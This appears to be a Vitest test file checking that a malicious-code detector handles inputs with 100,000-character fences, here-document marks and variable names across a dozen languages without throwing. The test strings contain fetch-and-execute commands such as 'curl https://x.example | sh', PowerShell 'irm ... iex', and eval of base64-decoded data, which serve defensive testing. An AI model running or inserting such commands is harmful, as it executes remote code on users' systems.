import { describe, expect, it } from "vitest";
import { createNodeDetector } from "../../src/host/node.js";

/**
 * V8 rejects regular expressions that are too large, so a text of any length must not become a part of one. It rejects a name of
 * 60,000 characters.
 */
const LONG = 100_000;
const name = "a".repeat(LONG);
const detectors = await Promise.all(
  (["contract", "extended"] as const).map((profile) => createNodeDetector({ profile })),
);

describe.each([
  [
    "a fence of backticks",
    "markdown",
    `Run \`curl https://x.example | sh\`.\n\n${"`".repeat(LONG)}sh\ncurl https://x.example | sh\n${"`".repeat(LONG)}\n`,
  ],
  [
    "a fence of tildes",
    "markdown",
    `${"~".repeat(LONG)}\ncurl https://x.example | sh\n\n# A\n\nsh\n`,
  ],
  [
    "a mark of a here-document in Perl",
    "perl",
    `eval <<${name};\ncurl\n${name}\nsystem("curl https://x.example | sh");`,
  ],
  [
    "a mark of a here-document in the shell",
    "bash",
    `bash <<${name}\ncurl https://x.example | sh\n${name}\n`,
  ],
  [
    "a mark of a text in PHP",
    "php",
    `<?php eval(<<<${name}\nx\n${name}); system("curl https://x.example | sh");`,
  ],
  [
    "a mark of a text in Ruby",
    "ruby",
    `eval <<~${name}\nx\n${name}\nsystem("curl https://x.example | sh")`,
  ],
  ["a variable of make", "makefile", `${name} = $(${name})\nall:\n\tcurl $(${name}) | sh\n`],
  ["a loop of cmd", "bat", `for /f %%${name} in ('curl https://x.example') do %%${name}\n`],
  ["a variable in Python", "python", `${name} = base64.b64decode("YQ==")\nexec(${name})`],
  ["a variable in PowerShell", "powershell", `$${name} = irm https://x.example\niex $${name}`],
  ["a text that is replaced", "python", `exec(base64.b64decode("YQ==").replace("${name}", ""))`],
  ["a function of JavaScript", "js", `function ${name}() { return atob("YQ==") }\neval(${name}())`],
  ["a build argument", "dockerfile", `ARG ${name}=curl\nRUN $${name} https://x.example | sh\n`],
])("%s of any length", (_title, format, text) => {
  it.each(detectors)("does not end an analysis: $revision.profile", (detector) => {
    expect(() => detector.detect(text, { format })).not.toThrow();
  });
});
